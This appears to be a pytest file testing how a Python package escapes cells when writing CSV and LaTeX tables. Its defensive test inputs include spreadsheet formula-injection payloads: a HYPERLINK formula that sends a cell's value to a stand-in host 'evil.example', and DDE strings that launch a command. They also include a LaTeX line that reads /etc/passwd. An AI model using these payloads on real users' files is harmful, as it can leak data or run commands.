"""Texts of data in the cells of CSV files and LaTeX tables."""

import csv
import re

import pandas as pd
import pytest

from beyondtext.report.cells import escaped, protected, unescaped
from beyondtext.report.load import Tables, write_table

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "－1＋2",  # in full width
    "＝1+1",
    "＠A1",
    "'=1+1",  # with an apostrophe of its own
    "''-a",
]
PLAIN = ["a=1", "1-2", "x@y", "'", "it's", "", "−0.5", "–", "class A", "it=1"]
NUMBERS = ["-1", "-0.5", "+3", "-1e-05", "-.5", "+1E+10", "-2."]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text_and_is_read_as_it_was(text):
    cell = escaped(text)
    assert cell == f"'{text}" and unescaped(cell) == text


@pytest.mark.parametrize("text", [*PLAIN, *NUMBERS])
def test_other_texts_and_numbers_stay_as_they_are(text):
    assert escaped(text) == text and unescaped(text) == text


@pytest.mark.parametrize("value", [-1, -0.5, float("nan"), None, True])
def test_values_that_are_no_texts_stay_as_they_are(value):
    assert escaped(value) is value and unescaped(value) is value


def test_control_characters_are_escapes():
    assert escaped("a\x1b[2Jb\0\r\ud800") == "a\\x1b[2Jb\\x00\\r\\ud800"


def test_a_table_is_read_as_it_was_written_and_has_no_formula(tmp_path):
    texts = [*FORMULAS, *PLAIN[:3], *NUMBERS]
    table = pd.DataFrame({"task": "splice", "example": texts, "effect": [-0.25] * len(texts), "n": [-3] * len(texts)})
    write_table(table, tmp_path, "mine")
    with open(tmp_path / "mine.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    for row in rows:
        assert (row["effect"], row["n"]) == ("-0.25", "-3")
        assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", row["example"]) or row["example"] in NUMBERS
    read = Tables(tmp_path)["mine"]
    assert read["example"].tolist() == texts
    assert read["effect"].tolist() == table["effect"].tolist() and read["n"].dtype == int


@pytest.mark.parametrize("name", ["2", "1e5", "NA", "nan", "None", "null", "True", "007"])
def test_names_that_look_like_other_values_stay_names(tmp_path, name):
    columns = ["task", "model", "model_a", "model_b", "experiment", "source"]
    write_table(pd.DataFrame({**{column: [name] for column in columns}, "mean": [0.5]}), tmp_path, "mine")
    assert Tables(tmp_path)["mine"][columns].to_numpy().tolist() == [[name] * len(columns)]


def test_what_is_special_to_latex_is_escaped(tmp_path):
    texts = [r"\input{/etc/passwd}", "50 % of_it", "a & b", "$x^2$", "#1", "~", "[2pt]", "*", "a\x1bb", "\\"]
    write_table(pd.DataFrame({"a_b": texts, "x": [1.23456, -0.5] * 5}), tmp_path, "mine")
    lines = (tmp_path / "mine.tex").read_text(encoding="utf-8").splitlines()
    cells = [line.partition(" & ") for line in lines if line.endswith(r"\\")]
    assert cells[0] == (r"a\_b", " & ", r"x \\")
    assert [cell for cell, _, _ in cells[1:]] == [
        *(r"\textbackslash input\{/etc/passwd\}", r"50 \% of\_it", r"a \& b", r"\$x\textasciicircum 2\$", r"\#1"),
        *(r"\textasciitilde ", "{}[2pt]", "{}*", r"a\textbackslash x1bb", r"\textbackslash "),
    ]
    assert {rest for _, _, rest in cells[1:]} == {r"1.235 \\", r"-0.500 \\"}


def test_a_cell_at_the_beginning_of_a_row_is_no_argument_of_the_row_before():
    assert protected("[2pt]") == "{}[2pt]" and protected("*a") == "{}*a" and protected("a*[") == "a*["
